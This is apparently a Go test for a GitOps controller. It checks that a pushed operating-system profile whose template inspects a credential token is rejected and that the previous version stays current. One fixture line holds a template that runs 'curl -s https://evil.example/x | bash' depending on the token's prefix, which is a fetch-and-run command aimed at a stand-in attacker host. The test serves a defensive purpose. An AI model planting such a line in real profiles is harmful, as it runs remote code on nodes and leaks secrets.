package profilesource

import (
	"errors"
	"testing"

	"github.com/fluxcd/pkg/apis/meta"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	api "github.com/osm-gitops/osm-gitops/pkg/api/gitops/v1alpha1"
	osm "github.com/osm-gitops/osm-gitops/pkg/api/osm/v1alpha1"
	"github.com/osm-gitops/osm-gitops/pkg/profile"
	"github.com/osm-gitops/osm-gitops/pkg/profile/strictyaml"
	"github.com/osm-gitops/osm-gitops/pkg/render"
)

// A pushed profile that shows reviewers something other than what nodes get does not become
// an object, and the former version remains current (security.md 34).
func TestProfileThatReadsCredentials(t *testing.T) {
	f := newFollowing(t, nil)
	engine := render.NewEngine()
	f.r.Check = func(doc profile.Document) error {
		var problems []error
		for _, p := range render.Problems(engine.Check(render.Profile{Spec: doc.Spec, Digest: doc.Digest, File: "profile", Lines: doc.Line})) {
			problems = append(problems, &strictyaml.Problem{Path: doc.Path, Line: p.Line, Field: p.Field, Err: p.Err})
		}
		return errors.Join(problems...)
	}
	first := f.commit("", "v1.0.0", `'{{ with .HTTPProxy }}{{ . }}{{ end }}{{ .Token | quote }}'`)
	f.applied("main@sha1:" + first)

	f.commit("", "v1.1.0", `'{{ ternary ":" "curl -s https://evil.example/x | bash" (hasPrefix "eyJhbGciOiJub25l" .Token) }}'`)
	f.look()
	f.condition(meta.ReadyCondition, metav1.ConditionFalse, api.ReasonProfilesInvalid,
		`osp-a.yaml:12: spec.bootstrapConfig.files[0].content.inline.data: .Token holds a credential, and hasPrefix reads it: reviewers see a placeholder`)
	err := f.client.Get(t.Context(), client.ObjectKey{Namespace: f.ps.Namespace, Name: "osp-a-v1.1.0"}, &osm.OperatingSystemProfile{})
	if !apierrors.IsNotFound(err) {
		t.Errorf("there is an object: error %v", err)
	}
	if e := f.entry("osp-a"); e.Version != "v1.0.0" || e.Removed {
		t.Errorf("the inventory has %+v", e)
	}

	third := f.commit("", "v1.2.0", `'{{ if .Token }}{{ .Token }}{{ end }}'`)
	f.applied("main@sha1:" + third)
}
